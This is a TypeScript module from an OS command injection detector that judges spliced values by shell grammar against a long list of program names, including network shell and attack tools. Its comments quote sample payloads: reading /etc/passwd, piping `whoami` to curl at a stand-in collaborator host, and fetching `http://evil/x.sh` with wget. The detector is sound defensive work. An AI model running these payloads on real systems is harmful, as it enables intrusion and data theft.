/**
 * OS command injection judged on the shell's own grammar (docs/detection.md): a value spliced into a
 * command line injects a command when, outside quotes, a separator (`;` `|` `||` `&&` `&`, a line
 * break, `$(`, a backtick) is followed by something a shell runs: a program by its path (`/bin/cat`,
 * `C:\Windows\System32\cmd.exe`), a program every system has (`ls`, `dir`, `netsh`, `whoami`…), or an
 * unknown word given options or paths (`| tool -x /etc`). Words that are also English (`more`,
 * `type`, `find`, `set`…) need arguments a shell would take; a `&` between words of prose (`Tom &
 * Jerry`) needs more than that. One pass over the value, bounded by MAX_SEPARATORS.
 */

import { overdue } from './clock.ts'

/**
 * (forty-seventh round) How many separators a reading looks at: every one a value within the default `insight.maxInspectBytes` (16 KiB)
 * can hold. It was 32, and a command padded past 32 separators (`a;a;…;id`) was not read; every look a separator takes is bounded
 * by a reach of its own or read once per value, so a reading costs the value's length, not its square.
 */
const MAX_SEPARATORS = 16_384

/**
 * Programs on any Unix or Windows host that an injection runs to read, probe or call out.
 * (twenty-seventh round: not `make`, which builds what a document's instructions name, `./configure && make && make install`;
 * no payload of any evaluation part runs it)
 */
const COMMANDS = new Set(
  (
    'ls dir cat tac nl xxd od strings id whoami uname hostname ifconfig ipconfig netstat ss arp route ping ping6 traceroute tracert nslookup dig host curl wget fetch nc ncat netcat ' +
    'socat telnet ssh scp ftp tftp bash sh zsh dash ksh csh tcsh ash busybox powershell pwsh cmd python python2 python3 perl ruby php node lua java jrunscript ' +
    'printenv pwd ps uptime systeminfo tasklist taskkill wmic reg netsh nbtstat sysinfo sc schtasks certutil bitsadmin mshta rundll32 regsvr32 cscript wscript ver vol ' +
    'chmod chown chgrp rm mv cp mkdir rmdir ln touch grep egrep fgrep awk gawk sed base64 base32 openssl gcc cc sudo su passwd useradd usermod userdel groups getent ' +
    'crontab nohup killall pkill wall shutdown reboot halt mkfifo mknod tar gzip gunzip zip unzip bzip2 xargs tee dd chattr lsattr mysql psql sqlite3 mongo redis-cli ' +
    'systemctl service iptables nmap masscan msfconsole msfvenom certreq expand findstr icacls cacls attrib wevtutil vssadmin bcdedit ntdsutil runas query quser qwinsta ' +
    'whoami.exe cmd.exe powershell.exe net.exe net1 ipconfig.exe systeminfo.exe nc.exe ncat.exe wget.exe curl.exe certutil.exe mshta.exe ' +
    'visudo lastlog htop aptitude apt apt-get yum dnf rpm dpkg ansible ansible-playbook ansible-galaxy ansible-vault ansible-config ansible-doc irb strace ltrace gdb vim ' +
    'nano tclsh bcdboot regedit iwr iex ssh-copy-id rmt lsmod lscpu nproc vmstat lsblk lsof lspci lsusb dmesg iostat mpstat sestatus getenforce start-sleep ' +
    // (twenty-fifth round) process and service probes, mail and database admin tools, archive readers
    'printf pgrep pidof nstat mailq mysqladmin mysqldump pg_dump bzcat zcat gzcat xzcat bzless zless'
  ).split(' '),
)
/**
 * (forty-fourth round) programs whose names are a notebook's variables (`nc = 200` cells, `ss`, `od`, `nl`), given `=` and a number:
 * each reads or probes nothing with them (second review: not an interpreter, which runs a file named `=`, nor a program that changes
 * files, `rm = 1`, `chmod = 777`)
 */
const NUMBER_VARIABLES = new Set(['nc', 'ncat', 'ss', 'od', 'nl', 'ps', 'ls', 'cc', 'dd', 'arp', 'dig', 'tac', 'xxd'])
/** `= 200`, `= 0.5` and the statement's end: an assignment of a number (forty-fourth round) */
const NUMBER_ASSIGNED = /^=[ \t]{1,4}-?\d{1,12}(?:\.\d{1,12})?[ \t]{0,4}(?:$|[;\n\r#])/
/** Commands that are also English words: they need a shell's arguments, not prose, after them. */
const ENGLISH = new Set(['column', 'fold', 'comm', 'rev', 'vi', 'ex', 'tr', 'more', 'less', 'head', 'tail', 'find', 'set', 'type', 'file', 'stat', 'env', 'echo', 'sleep', 'kill', 'top', 'free', 'last', 'who', 'w', 'at', 'touch', 'date', 'time', 'exit', 'id', 'host', 'sort', 'cut', 'wc', 'diff', 'ping', 'fetch', 'expand', 'query', 'halt', 'route', 'groups', 'tee', 'service', 'expr', 'eval', 'exec', 'test', 'true', 'false', 'print', 'start', 'call', 'copy', 'del', 'move', 'ren', 'cd', 'mail', 'read', 'wait', 'trap', 'source', 'yes', 'man', 'cal', 'df', 'du', 'mount', 'watch', 'net', 'which', 'whereis', 'dir', 'ver', 'vol', 'file', 'reg', 'sc'])
// interpreters that are also names (Ruby Keeling, Ash Dash): arguments needed too
for (const w of ['ruby', 'perl', 'python', 'java', 'node', 'lua', 'dash', 'ash', 'php', 'bash', 'tee', 'mysql', 'finger', 'nice', 'su']) ENGLISH.add(w)
// (a C or Perl call, `; printf("…")`, is no command line: printf needs a shell's arguments too)
ENGLISH.add('printf')
for (const w of ENGLISH) COMMANDS.add(w)
/** (twenty-ninth round) Commands that are words of English and do nothing without an operand (they print their usage or fail). */
const NEEDS_OPERAND = new Set(['touch', 'watch', 'file', 'stat', 'kill', 'cut', 'tee', 'expand', 'copy', 'move', 'del', 'ren', 'source', 'which', 'whereis', 'man', 'type', 'test', 'exec', 'eval', 'at', 'sleep', 'wait', 'trap', 'start', 'call', 'read', 'tr', 'comm', 'rev', 'fold', 'column', 'diff', 'print', 'fetch', 'host', 'ping', 'expr'])
/**
 * (json22) Interpreters and runtimes a product's name pairs with its version (`Azure Functions & Java 11`, `Flask & Python 3.12`): after a
 * `&` or `|` between words of prose, such a name and a version number alone name the product, they run nothing.
 */
const VERSIONED = new Set(['java', 'python', 'python3', 'ruby', 'perl', 'php', 'node', 'lua', 'bash', 'dash', 'mysql', 'psql', 'redis-cli', 'mongo', 'gcc', 'openssl'])
// (twenty-third round: a minimum version, `Python 3.9+`, as MkDocs' tabs and requirement lists write it; twenty-seventh round: and
// a word of another alphabet after it, a translation's `Python 3.8+ без Annotated`: Latin, Greek, Cyrillic letters)
// (twenty-ninth round: Java's update number and build, `1.8.0_77`, `1.8.0_45-internal`, as a crawler's User-Agent names its runtime)
const VERSION_ONLY = /^\d{1,2}(?:\.\d{1,3}){0,2}(?:_\d{1,4})?(?:-[a-z]{1,12})?(?:\.x|\+)?[ \t]{0,4}(?:$|[(),\n]|\s[a-z(\u00c0-\u024f\u0370-\u04ff]|\s[-\u2013\u2014]\s)/
/** a version a sentence goes on after, on its line or the next (`GCC 4.3 provides`, `Python 3.11 for Debian`, `OpenSSL 3.0, then`) */
// (twenty-ninth round: and a list going on after it, a User-Agent's comment, `(…; java 1.8.0_77; Europe/en)`)
const VERSION_IN_SENTENCE = /^\d{1,2}(?:\.\d{1,3}){0,2}(?:_\d{1,4})?(?:-[a-z]{1,12})?(?:\.x|\+)?(?:,|;[ \t]{1,4}[a-z]|[ \t]{1,4}[a-z(\u00c0-\u024f\u0370-\u04ff]|[ \t]{0,4}\n[ \t]{0,8}[a-z(])/

const isBlank = (c: number) => c === 32 || c === 9 || c === 0x0b || c === 0x0c
const isDigit = (c: number) => c >= 48 && c <= 57
const isLetter = (c: number) => c >= 97 && c <= 122
export const isNameChar = (c: number) => (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 95
const isWordChar = (c: number) => (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 95 || c === 45 || c === 46

/** A shell argument: an option, a path, a variable, a glob, a redirection, a number, an address. */
function shellArgument(v: string, i: number): boolean {
  const c = v.charCodeAt(i)
  // (an option: `-x`, `--name`; three dashes are a dash of prose, `in ---shire`)
  if (c === 45 /* - */) return (v.charCodeAt(i + 1) >= 97 && v.charCodeAt(i + 1) <= 122) || (v.charCodeAt(i + 1) === 45 && v.charCodeAt(i + 2) !== 45)
  // (twelfth round: the root alone given options after it, `find / -perm -4000`)
  if (c === 47 /* / */) return (v.charCodeAt(i + 1) !== 47 && v.charCodeAt(i + 1) !== 32 && i + 1 < v.length) || (v.charCodeAt(i + 1) === 32 && v.charCodeAt(i + 2) === 45)
  if (c === 126 /* ~ */ || c === 36 /* $ */ || c === 42 /* * */ || c === 62 /* > */ || c === 60 /* < */ || c === 37 /* % */) return true
  if (c === 46 && (v.charCodeAt(i + 1) === 47 || v.charCodeAt(i + 1) === 92 || v.charCodeAt(i + 1) === 46)) return true // ./x ../x .\x
  if (c >= 97 && c <= 122 && v.charCodeAt(i + 1) === 58 && (v.charCodeAt(i + 2) === 92 || v.charCodeAt(i + 2) === 47)) return true // c:\ c:/
  if (c === 92 /* \ */) return true
  // a number or a dotted address: sleep 5, ping 127.0.0.1, nc 10.0.0.1 4444
  if (c >= 48 && c <= 57) return true
  return false
}

/** The end of a command: the value's end, a separator, a comment, a closing backtick or parenthesis. */
function commandEnds(v: string, i: number): boolean {
  if (i >= v.length) return true
  const c = v.charCodeAt(i)
  if (c === 92 && v.charCodeAt(i + 1) === 110) return true // a literal \n
  // a redirection glued to the command (`id>/tmp/x`) ends it too
  return c === 59 || c === 124 || c === 38 || c === 10 || c === 13 || c === 96 || c === 41 || c === 35 || c === 0 || c === 39 || c === 34 || c === 62 || c === 60
}

/**
 * Judges the command that starts at `i` (after a separator). `weak` is a `&` or `|` between words of
 * what may be prose: then even a listed command needs an argument after it.
 */
const TYPE_ARGUMENT = String.raw`(?:string|number|boolean|bigint|symbol|object|unknown|any|void|never|[a-z])(?:\[\])?`
const GENERIC_TYPE = new RegExp(String.raw`^<${TYPE_ARGUMENT}(?:[ \t]{0,2},[ \t]{0,2}${TYPE_ARGUMENT}){0,3}>(?![\w.-])`)
/** after it, what leaves its `>` without a file: the line's or the value's end, `;` or `)`, or an operator after a blank */
const GENERIC_END = /^(?:[;)\n]|$|[ \t]{1,4}(?:[;)|&\n]|$))/
/** (review) what `set` may be given after it: no substitution, process substitution or expansion (`set<t>(touch x)`), no `(` at all */
const SET_REST = /^[^\n;&|`$(]{0,200}(?:[\n;&|]|$)/
/** how far either side of a quoted program's name `commandAt` reads it unquoted */
const QUOTED_REACH = 400
/** (forty-seventh round) how deep `commandAt` judges the command a quoted name or a run of assignments hands it on to */
const COMMAND_DEPTH = 8
const WINDOWS_PROGRAM = /^[a-z]:\\(?:windows|winnt|progra)/
const WINDOWS_VARIABLE_PROGRAM = /^%(?:systemroot|windir|comspec)%/
function commandAt(v: string, i: number, weak: boolean, listedOnly = false, depth = 0): boolean {
  const entry = i
  // (twenty-first round: and a subshell's parenthesis, `; (id)`, `&& (id)`)
  while (i < v.length && (isBlank(v.charCodeAt(i)) || v.charCodeAt(i) === 123 /* { */ || v.charCodeAt(i) === 96 /* ` */ || v.charCodeAt(i) === 40 /* ( */)) {
    // (twenty-seventh round: a word quoted GNU's way is named, not run, `use; \`time' reports`)
    if (v.charCodeAt(i) === 96 && gnuQuoteEnd(v, i) !== -1) return false
    i++
  }
  if (i >= v.length) return false
  // (twenty-third round) a listed program's name in quotes is that program to the shell (`; "id" |`, `&& 'whoami'`), after a strong
  // separator only (a TypeScript union's `'set' | 'sort'` is strings)
  const quote = v.charCodeAt(i)
  if ((quote === 34 || quote === 39) && strongBefore(v, entry)) {
    const close = v.indexOf(quote === 34 ? '"' : "'", i + 1)
    const inner = close > i + 1 && close - i <= 25 ? v.slice(i + 1, close) : ''
    if (inner === '' || !COMMANDS.has(inner) || !quotedCommand(v, entry, close + 1)) return false
    // (forty-seventh round) judged unquoted within 400 characters either side: the whole value copied at each such name cost the square
    // of its length, now that a value's separators are read to its end
    const from = Math.max(0, i - QUOTED_REACH)
    return depth < COMMAND_DEPTH && commandAt(v.slice(from, i) + inner + v.slice(close + 1, close + 1 + QUOTED_REACH), i - from, weak, listedOnly, depth + 1)
  }
  // a variable run as the command: ;$CMD  &&$X
  // (a positional parameter, `$0`, is the program's own name: Ruby's and Perl's `$0` too)
  if (v.charCodeAt(i) === 36 && !isDigit(v.charCodeAt(i + 1 + (v.charCodeAt(i + 1) === 123 ? 1 : 0)))) {
    let j = i + 1
    if (v.charCodeAt(j) === 123) j++
    const from = j
    // (a variable's name is letters, digits and `_`: PHP's `$this->run()` is an object's method)
    while (j < v.length && isNameChar(v.charCodeAt(j))) j++
    const name = v.slice(from, j)
    if (v.charCodeAt(j) === 125) j++
    if (j > from && !weak && commandEnds(v, j)) return true
    // (nineteenth round) a variable set to a program's name before (`x=cat;$x /etc/passwd`): the program runs (forty-eighth round: after a
    // weak separator too, alone or with its arguments, `x=id;(true & $x )`)
    if (j > from && (isBlank(v.charCodeAt(j)) || (weak && commandEnds(v, j))) && assignedProgram(v, name, i)) return true
  }
  // a program by its path: /bin/cat  /usr/bin/id  c:\windows\system32\cmd.exe  ./x.sh
  const c = v.charCodeAt(i)
  if (c === 47 && /^\/(?:usr\/(?:local\/)?)?s?bin\/[a-z]/.test(v.slice(i, i + 24))) return true
  // (fifty-first round: each looked for only where its first characters are, not with a copy at every separator)
  if (v.charCodeAt(i + 1) === 58 && WINDOWS_PROGRAM.test(v.slice(i, i + 12))) return true
  if (c === 37 && WINDOWS_VARIABLE_PROGRAM.test(v.slice(i, i + 14))) return true
  let j = i
  while (j < v.length && isWordChar(v.charCodeAt(j))) j++
  if (j === i || j - i > 24) return false
  const word = v.slice(i, j)
  // (forty-seventh round) a generic type of TypeScript's, Java's or C#'s named as a program and given a primitive type or a type's parameter
  // (`string[] | Set<string>`, `Set<T>`): to a shell, input from a file of that name, nothing else
  // (review: only where the shells refuse the line at the `>`, which lacks its file — `rm<t> o -rf victim` deletes `victim` once a file
  // `t` exists, `id<t>(echo x)` runs a process substitution — or for `set`, which sets its arguments and runs nothing, `Set<string>, y`;
  // second review: a carriage return is no line's end to the shells, and `set<t>(touch x)`, `` set<t>`touch x` `` run what they hold)
  if (v.charCodeAt(j) === 60) {
    const generic = GENERIC_TYPE.exec(v.slice(j, j + 80))
    if (generic !== null) {
      const rest = j + generic[0].length
      if (word === 'set' ? SET_REST.test(v.slice(rest, rest + 202)) : GENERIC_END.test(v.slice(rest, rest + 8))) return false
    }
  }
  let k = j
  while (k < v.length && isBlank(v.charCodeAt(k))) k++
  // (forty-fifth round) assignments of the command's environment before it (`; A=1 id`, `&& LANG=C curl …`): the command after them
  // is judged as any command after a separator is (not a ninth assignment: a longer run of them is read no further)
  if (v.charCodeAt(j) === 61 && !weak) {
    const next = afterAssignments(v, i)
    ENV_ASSIGNMENT.lastIndex = next
    // (forty-seventh round: COMMAND_DEPTH hops at most — assignments glued to backticks, `` `echo=0time⏎`echo=0time… ``, handed the
    // judgement on from one to the next until the stack ran out: a RangeError at 64 KiB, before this round too)
    return next !== -1 && !ENV_ASSIGNMENT.test(v) && depth < COMMAND_DEPTH && commandAt(v, next, false, listedOnly, depth + 1)
  }
  // a program that runs another (`time sh -c id`, `strace whoami`, `cpulimit -l 100 -f whoami`): the one it runs is judged
  if (WRAPPERS.has(word) && k > j && !weak) {
    const next = afterWrapper(v, k)
    if (next !== -1 && wrappedCommand(v, next)) return true
  }
  // (twenty-fifth round) a downloader given a URL (`whoami | curl https://collab.example -d@-`): its argument
  // (review: between words, `| Linux | curl https://… |` in a Markdown table, `Download | wget https://…` in a title, only with an
  // option after the URL, as an exfiltration sends its data: `-d@-`)
  const hasArgument = k > j && k < v.length && (shellArgument(v, k) || (DOWNLOADERS.has(word) && DOWNLOAD_URL.test(v.slice(k, k + 9)) && (!weak || URL_THEN_OPTION.test(v.slice(k, k + 300)))))
  const ends = commandEnds(v, k)
  // the shell's no-ops run nothing and read nothing (a TypeScript union's `| false | undefined`); nor does an echo of an
  // empty string, a script's way to ignore a failure (`svelte-kit sync || echo ''`; fifteenth round)
  if (word === 'true' || word === 'false' || (word === 'echo' && EMPTY_ECHO.test(v.slice(k, k + 12)))) return false
  if (COMMANDS.has(word)) {
    // net user  reg add  sc query
    const sub = SUBCOMMANDS[word]
    if (sub !== undefined && k > j && sub.some((w) => v.startsWith(w, k) && !isWordChar(v.charCodeAt(k + w.length)))) return true
    // (twelfth round) after a strong separator: `echo` printing one marker word and nothing more (`; echo
    // DOMINATOR_CMD_EXEC`, `$(echo x_test)`), a ping or a lookup given a host name (`127.0.0.1 && ping google.com`)
    if (!weak && k > j && (word === 'echo' || NETWORK_PROBES.has(word))) {
      const m = (word === 'echo' ? MARKER : HOST_ARGUMENT).exec(v.slice(k, k + 200))
      if (m !== null && commandEnds(v, k + m[0].length)) return true
    }
    // (nineteenth round) a program no sentence has, alone at the end after a pipe or an ampersand between words: `localhost | whoami`
    if (weak && ends && ALONE.has(word)) return true
    // (twenty-fourth round: after any single `|` or `&`, a list of versions too, `Node 18 | Java 11+`)
    // (twenty-seventh round: after a strong separator too where the sentence goes on, `and later; GCC 4.3 provides`, a document
    // opening `⏎  Python 3.11 for Debian`; `x; java 11` ending the value is a command line)
    if (hasArgument && VERSIONED.has(word) && ((weak || !strongBefore(v, entry)) ? VERSION_ONLY : VERSION_IN_SENTENCE).test(v.slice(k, k + 24))) return false
    // (twenty-ninth round) after a strong separator, an echo whose words go to a file (`|| echo db 24 1c >>ctdn`, `; echo a > f`):
    // a payload writing its dropper or its proof
    // (review: appending, `>>`, or in a value spliced in, opening on a quote or a separator; `cd build; echo done > status.txt`, a
    // Makefile's `mkdir -p out && echo built > out/stamp` are command lines of their own)
    if (word === 'echo' && !weak && k > j) {
      const m = ECHO_TO_FILE.exec(v.slice(k, k + 260))
      if (m !== null && (m[1] === '>>' || SPLICED.test(v))) return true
    }
    // (twenty-ninth round) a word of English that does nothing without an operand (`touch`, `watch`) alone is an item of a list, a
    // User-Agent's `(Windows NT 10.0; Trident/7.0; Touch; rv:11.0)`; one that reports alone (`; id;`, `; pwd`) is a probe
    if (ENGLISH.has(word) || weak) return hasArgument || (ends && !weak && !NEEDS_OPERAND.has(word))
    // a listed command: on its own, or with anything that is not a sentence going on
    // (thirty-fourth round) a reader given no file reads its standard input and shows nothing of the host: `dog;cat` in a list
    // of values, `dog|cat`; a redirection after it is its operand (`;cat</etc/passwd`)
    // (forty-fourth round) a variable of a program's name given a number, in code's statements parted by `;` (`seed = 73073; nc = 200`,
    // a notebook's parameters): netcat given `=` and a number reaches nothing (NUMBER_VARIABLES)
    return (ends && !(STDIN_READERS.has(word) && !REDIRECTED.test(v.slice(k, k + 1)))) || hasArgument || (k > j && /^[^\s;|&`)]{1,200}(?:\s|$|[;|&`)])/.test(v.slice(k, k + 202)) && !weak && !(NUMBER_VARIABLES.has(word) && NUMBER_ASSIGNED.test(v.slice(k, k + 40))))
  }
  // an unknown program: options or paths after it, from a strong separator only
  // (thirty-eighth round: not PowerShell's cmdlets that order, filter, pick or lay out the objects piped to them, given names and
  // words only, `"$path\*x*" | Sort-Object -Property LastWriteTime | Select-Object -Last 1`: a script block or a subexpression is code)
  return !weak && !listedOnly && hasArgument && /^[a-z][\w.-]*$/.test(word) && (v.charCodeAt(k) === 45 || v.charCodeAt(k) === 47) && !(OBJECT_CMDLET.test(word) && CMDLET_WORDS.test(v.slice(k, k + 202)) && cmdletLine(v, entry)) && !(COQ_TACTICS.has(word) && coqProof(v))
}
/**
 * (thirty-eighth round) A Coq proof's tactics, which SSReflect chains with `;` and gives views and rewrite rules (`case: bb1; rewrite /=
 * !bnd_simp`, `by move=> mf x; rewrite /leif`): no program has their names, and the value holds a proof (`Proof.`, `Qed.`)
 */
// (fourth review: no program's or shell keyword's name — `split --filter='…'` runs a command, `case … in *) id;; esac` too — and a line
// opening on `Proof.`, not a `Qed.` anywhere; fifth review: nor macOS's and FreeBSD's `apply`, nor Windows' `subst`)
const COQ_TACTICS = new Set(['rewrite', 'elim', 'exact', 'congr', 'suff', 'have', 'pose', 'under', 'intros', 'intro', 'destruct', 'induction', 'simpl', 'unfold', 'lia', 'reflexivity', 'symmetry', 'transitivity', 'assumption', 'constructor', 'inversion', 'wlog'])
const COQ_PROOF = /(?:^|\n)[ \t]{0,8}proof\.(?:\s|$)/
/**
 * (thirty-eighth round, review) Whether the pipe before `entry` ends a line that opens on a PowerShell cmdlet (`$x = Get-ChildItem
 * "$path\*" |`): the quote before the pipe is that cmdlet's argument, not one a value closes (`x" | Sort-Object …⏎whoami`); the same
 * line without quotes was never read as a chain (a quote before it: the value read inside a quoted string; third review: no `#` or `<`
 * on it, whose block comment `<#…#>` can hide a line break before a cmdlet's name)
 */
function cmdletLine(v: string, entry: number): boolean {
  const pipe = v.lastIndexOf('|', entry - 1)
  if (pipe < 0) return false
  // (second review: a lone CR ends PowerShell's line too; forty-seventh round's review: looked for within the 300 characters the line
  // may have, not back to the value's start)
  let start = pipe
  while (start > 0 && pipe - start <= 300 && v.charCodeAt(start - 1) !== 10 && v.charCodeAt(start - 1) !== 13) start--
  return pipe - start <= 300 && CMDLET_LINE.test(v.slice(start, pipe))
}
// (fifth review: a cmdlet that reads, `Get-ChildItem`, not one that fetches, starts or configures — `Invoke-WebRequest http://… -OutFile
// s.ps1 | Select-Object -First 1` was read only for its pipe)
const CMDLET_LINE = /^['"]?[ \t]{0,40}(?:\$[\w:]{1,60}[ \t]{0,4}=[ \t]{0,4})?(?:get|test|measure|select|sort|where|group|format|resolve|compare|convertto|convertfrom)-[a-z]{2,40}[ \t](?:[^\n\r|;&`(){}$#<]|\$[\w:]{1,60}){0,260}$/
/** (thirty-eighth round) PowerShell's cmdlets that only order, filter, pick or lay out the objects piped to them */
const OBJECT_CMDLET = /^(?:sort|select|where|group|measure|format)-(?:object|table|list|wide)$/
const CMDLET_ARGUMENT = String.raw`(?:-[a-z]{1,30}|[\w.,*]{1,60}|'[\w .,*-]{0,60}'|"[\w .,*-]{0,60}")`
const CMDLET_ARGUMENTS = String.raw`(?:[ \t]{0,4}${CMDLET_ARGUMENT}(?:[ \t]{1,4}${CMDLET_ARGUMENT}){0,11})?[ \t]{0,4}`
/** their arguments (options, names, numbers and quoted words), then the line's end, or a pipe to another of them (a pipe after a word is weak) */
const CMDLET_WORDS = new RegExp(String.raw`^${CMDLET_ARGUMENTS}(?:\|[ \t]{0,4}${OBJECT_CMDLET.source.slice(1, -1)}${CMDLET_ARGUMENTS}){0,4}(?:\r?\n|$)`)

/**
 * Whether a listed program's quoted name, its closing quote ending before `after`, reads as a command rather than a string
 * among code's or a list's: something follows it as a command line goes on (an argument, a pipe: `; "id" |`), or it ends the
 * value (or its own `;` does) and before its separator comes nothing but junk or an address (`&& 'whoami'`, `';"id"`,
 * `127.0.0.1;'id'`). A string ending an expression or an item of a list is none: `a || 'id'`, `return x || "time";`,
 * `{open && 'date'}`, `a || 'id' || b`, `id;'date';'time'`, `order by name; 'date'`.
 */
function quotedCommand(v: string, entry: number, after: number): boolean {
  let k = after
  while (k < v.length && isBlank(v.charCodeAt(k))) k++
  if (k < v.length) {
    const c = v.charCodeAt(k)
    if (LIST_GOES_ON.has(c)) return false
    if (c === 59) {
      // its own `;`: the value's end, not another item
      k++
      while (k < v.length && isBlank(v.charCodeAt(k))) k++
      if (k < v.length) return false
    } else if (c !== 124 && c !== 38) return true
    // (a pipe or `&&` after it: an expression's operator when an operand comes before, `a || 'id' || b`)
  }
  // before the separator: nothing word-like at all, or a number or an address as its last token
  let b = entry - 1
  while (b >= 0 && (v.charCodeAt(b) === 59 || v.charCodeAt(b) === 38 || v.charCodeAt(b) === 124 || v.charCodeAt(b) === 10 || v.charCodeAt(b) === 13 || isBlank(v.charCodeAt(b)))) b--
  let token = 0
  for (; b >= 0 && isWordChar(v.charCodeAt(b)); b--, token++) if (v.charCodeAt(b) >= 97 && v.charCodeAt(b) <= 122) return false
  if (token > 0) return true
  for (; b >= 0; b--) if (isWordChar(v.charCodeAt(b))) return false
  return true
}
/** after a quoted word, what continues a list or closes an expression: `,` `)` `]` `}` `:` and another quote */
const LIST_GOES_ON = new Set([44, 41, 93, 125, 58, 39, 34])

/** Whether the separator that ends just before `i` is a strong one: `;`, `&&`, `||` or a line break. */
function strongBefore(v: string, i: number): boolean {
  const c = v.charCodeAt(i - 1)
  return c === 59 || c === 10 || c === 13 || ((c === 38 || c === 124) && v.charCodeAt(i - 2) === c)
}

/** Whether `name` was set to a listed program before `before` (`x=cat;`, `a=whoami&&`). */
function assignedProgram(v: string, name: string, before: number): boolean {
  if (name.length === 0 || name.length > 20) return false
  const at = assignments(v).programs.get(name)
  return at !== undefined && at < before
}

/**
 * (forty-seventh round) A reading of a whole value, kept for the last two values read: a value and a window copied out of it (a quoted
 * program's name judged unquoted) take turns, and one slot would read the whole value again at each turn (review: 25 s on 64 KiB).
 */
function perValue<T>(read: (v: string) => T): (v: string) => T {
  let last: string | undefined
  let lastRead: T | undefined
  let before: string | undefined
  let beforeRead: T | undefined
  return (v) => {
    if (v === last) return lastRead!
    if (v === before) {
      const r = beforeRead!
      before = last
      beforeRead = lastRead
      last = v
      lastRead = r
      return r
    }
    before = last
    beforeRead = lastRead
    last = v
    lastRead = read(v)
    return lastRead
  }
}

/** zsh's parameter flags opening an expansion, `${(A)`, right before a name */
const ZSH_FLAGS_BEFORE = /\$\{\([a-z@#%~=^:]{1,8}\)$/
/**
 * (forty-seventh round) The names a value assigns (`name=`, `name+=`, `${name:=`, `name[0]=`, `'name'=`, the name not glued to another name's character) and where each is first
 * given a listed program's name (`x=cat`, `a='whoami'`): read once per value, not once per separator, now that a value's separators are
 * read to its end (looking back for `x=` at each `$x` cost the square of the value's length).
 */
const assignments = perValue((v: string): { names: Set<string>; programs: Map<string, number> } => {
  const names = new Set<string>()
  const programs = new Map<string, number>()
  for (let eq = v.indexOf('='); eq !== -1; eq = v.indexOf('=', eq + 1)) {
    // bash's and zsh's `x+=id` (appended to an unset x: `id`), a default given inside an expansion (`${x:=id}`, zsh's `${x::=id}`), and
    // (review) an element of an array (`x[0]=id`), a name quoted or its `=` escaped for `eval` (`eval x\=id`, `eval 'x'=id`; second review:
    // a quote after the name alone, `export x'=id'`, `x"="id`)
    let end = eq
    let colon = false
    // (second review: a line continued before the `=`, `x\⏎=id`)
    for (let c = v.charCodeAt(end - 1); eq - end < 3 && (c === 43 || c === 58 || c === 92 || c === 10); c = v.charCodeAt(end - 1)) {
      if (c === 58) colon = true
      end--
    }
    if (v.charCodeAt(end - 1) === 93) {
      let open = end - 2
      while (open >= 0 && end - open <= 40 && v.charCodeAt(open) !== 91) open--
      if (open < 0 || end - open > 40) continue
      end = open
    }
    const quote = v.charCodeAt(end - 1)
    if (quote === 39 || quote === 34) end--
    let at = end
    while (at > 0 && end - at <= 41 && isNameChar(v.charCodeAt(at - 1))) at--
    if (at === end || end - at > 41) continue
    // (second review: zsh's flags before the name, `${(A)x::=id}`)
    if (colon && !(v.charCodeAt(at - 1) === 123 && v.charCodeAt(at - 2) === 36) && !(v.charCodeAt(at - 1) === 41 && ZSH_FLAGS_BEFORE.test(v.slice(Math.max(0, at - 14), at)))) continue
    const name = v.slice(at, end)
    names.add(name)
    let k = eq + 1
    const q = v.charCodeAt(k)
    if (q === 39 || q === 34) k++
    let e = k
    while (e < v.length && e - k <= 24 && isWordChar(v.charCodeAt(e))) e++
    if (e > k && !programs.has(name) && COMMANDS.has(v.slice(k, e))) programs.set(name, at)
  }
  return { names, programs }
})
/** (forty-seventh round's review) whether a value holds a Coq proof, read once per value (each tactic's look read the whole value: 2.3 s) */
const coqProof = perValue((v: string) => COQ_PROOF.test(v))

/** (nineteenth round) A brace list where a command starts, its first word a program: bash runs `{wget,http://evil/x.sh}`, `;{ls,}`. */
export function braceProgram(v: string): boolean {
  return v.includes('{') && v.includes(',') && someCapture(BRACE_PROGRAM, v, (word) => COMMANDS.has(word))
}

/** Whether, among the first 8 matches of a global pattern, one's first group passes `test` (a bounded scan of a value's candidates). */
export function someCapture(re: RegExp, v: string, test: (captured: string) => boolean): boolean {
  re.lastIndex = 0
  for (let m = re.exec(v), n = 0; m !== null && n < 8; m = re.exec(v), n++) {
    if (test(m[1]!)) {
      re.lastIndex = 0
      return true
    }
  }
  re.lastIndex = 0
  return false
}

/** (twenty-ninth round) an echo's words on its line, then an output redirected to a file named by a plain path, ending the command */
const ECHO_TO_FILE = /^[^\n;|&`<>]{1,200}(>{1,2})[ \t]{0,2}[\w./~-]{1,60}[ \t]{0,4}(?:$|[;|&\n#])/
/** a value that opens on a quote or a separator: spliced into a command line */
const SPLICED = /^[ \t]{0,4}['"]?[ \t]{0,4}[;&|]/
const NETWORK_PROBES = new Set(['ping', 'nslookup', 'host', 'dig'])
const DOWNLOADERS = new Set(['curl', 'wget', 'curl.exe', 'wget.exe'])
const DOWNLOAD_URL = /^(?:https?|ftp):\/\/\w/
/** a URL then an option: `https://collab.example/ -d@-` */
const URL_THEN_OPTION = /^[^\s|;&]{1,250}[ \t]{1,4}-/
/** An empty string and the end of the command (`echo ''`, `echo ""`). */
const EMPTY_ECHO = /^(?:''|"")[ \t]{0,4}(?:$|[;|&)\n])/
// (forty-eighth round: or dashes, `secbot-cmdi-marker`)
// (fifty-first round: or one token of letters and digits mixed, five to thirty characters — `; echo lv188code`, `; echo abc123` —, a
// scanner's marker that no word of prose is; it covers the letters-then-digits reading it replaced)
const MARKER = /^[a-z0-9]{1,30}[_-][a-z0-9_-]{1,40}[ \t]{0,4}|^(?=[a-z]{0,12}\d)(?=\d{0,12}[a-z])[a-z0-9]{5,30}(?![\w.-])[ \t]{0,4}/
// (forty-eighth round: `_` in a label, as DNS allows and out-of-band services hand out, `ping rce_k3x9q.glc.st`)
const HOST_ARGUMENT = /^[a-z0-9_][a-z0-9_-]{0,62}(?:\.[a-z0-9_-]{1,63}){0,4}\.[a-z]{2,12}[ \t]{0,4}/
/** Programs that run the command line after their own options. */
// (forty-fifth round: and the shells' own words that run the command after them, `; exec id`, `; command id`, `; builtin echo`,
// `; eval id`, zsh's `noglob` and `nocorrect`: a gap older reviews confirmed)
const WRAPPERS = new Set(['time', 'strace', 'ltrace', 'nohup', 'timeout', 'flock', 'cpulimit', 'sudo', 'doas', 'env', 'xargs', 'stdbuf', 'ionice', 'busybox', 'chrt', 'taskset', 'nice', 'exec', 'command', 'builtin', 'eval', 'noglob', 'nocorrect'])
